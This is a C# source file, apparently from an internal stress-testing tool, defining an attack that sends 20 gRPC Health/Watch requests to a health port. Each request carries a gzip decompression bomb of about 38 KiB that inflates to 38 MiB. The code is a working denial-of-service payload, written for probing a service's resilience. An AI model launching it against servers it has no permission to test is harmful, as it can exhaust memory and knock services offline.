using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using Google.Protobuf;
using Grpc.Health.V1;

namespace Platform.Tools.Bench.Siege;

/// <summary>Small messages that inflate a thousandfold, to calls that ask for no key.</summary>
sealed class InflatingMessages : IAttack
{
    const int Streams = 20,
        Inflated = 38 << 20; // bytes
    static readonly TimeSpan Pause = TimeSpan.FromSeconds(1),
        Wait = TimeSpan.FromSeconds(5);

    public string Name => "inflate";

    public string What =>
        $"{Streams} Health/Watch calls on the health port, each with a message of some 38 KiB by "
        + $"gzip that inflates to {Inflated >> 20} MiB";

    public async Task RunAsync(Besieged server, AttackLog log, CancellationToken cancel)
    {
        var message = Message();
        using var handler = new SocketsHttpHandler { EnableMultipleHttp2Connections = true, UseProxy = false };
        using var http = new HttpClient(handler) { BaseAddress = server.Health };
        await Pace.AgainAsync(Streams, Pause, _ => log.TryAsync(() => WatchAsync(http, message, cancel)), cancel);
    }

    /// <summary>As gRPC frames it: compressed, its length, the message.</summary>
    static byte[] Message()
    {
        using var deflated = new MemoryStream();
        using (var gzip = new GZipStream(deflated, CompressionLevel.SmallestSize, leaveOpen: true))
            gzip.Write(new HealthCheckRequest { Service = new('a', Inflated) }.ToByteArray());
        var length = (int)deflated.Length;
        byte[] prefix = [1, (byte)(length >> 24), (byte)(length >> 16), (byte)(length >> 8), (byte)length];
        return [.. prefix, .. deflated.ToArray()];
    }

    static async Task WatchAsync(HttpClient http, byte[] message, CancellationToken cancel)
    {
        using var enough = CancellationTokenSource.CreateLinkedTokenSource(cancel);
        enough.CancelAfter(Wait);
        using var request = new HttpRequestMessage(HttpMethod.Post, "/grpc.health.v1.Health/Watch")
        {
            Version = HttpVersion.Version20,
            VersionPolicy = HttpVersionPolicy.RequestVersionExact,
            Headers = { { "te", "trailers" }, { "grpc-encoding", "gzip" } },
            Content = new ByteArrayContent(message)
            {
                Headers = { ContentType = new MediaTypeHeaderValue("application/grpc") },
            },
        };
        using var response = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, enough.Token);
        await using var answers = await response.Content.ReadAsStreamAsync(enough.Token);
        while (await answers.ReadAsync(new byte[1024], enough.Token) > 0) { }
        if (
            response.Headers.TryGetValues("grpc-message", out var refusal)
            || response.TrailingHeaders.TryGetValues("grpc-message", out refusal)
        )
            throw new HttpRequestException(Uri.UnescapeDataString(string.Concat(refusal)));
    }
}
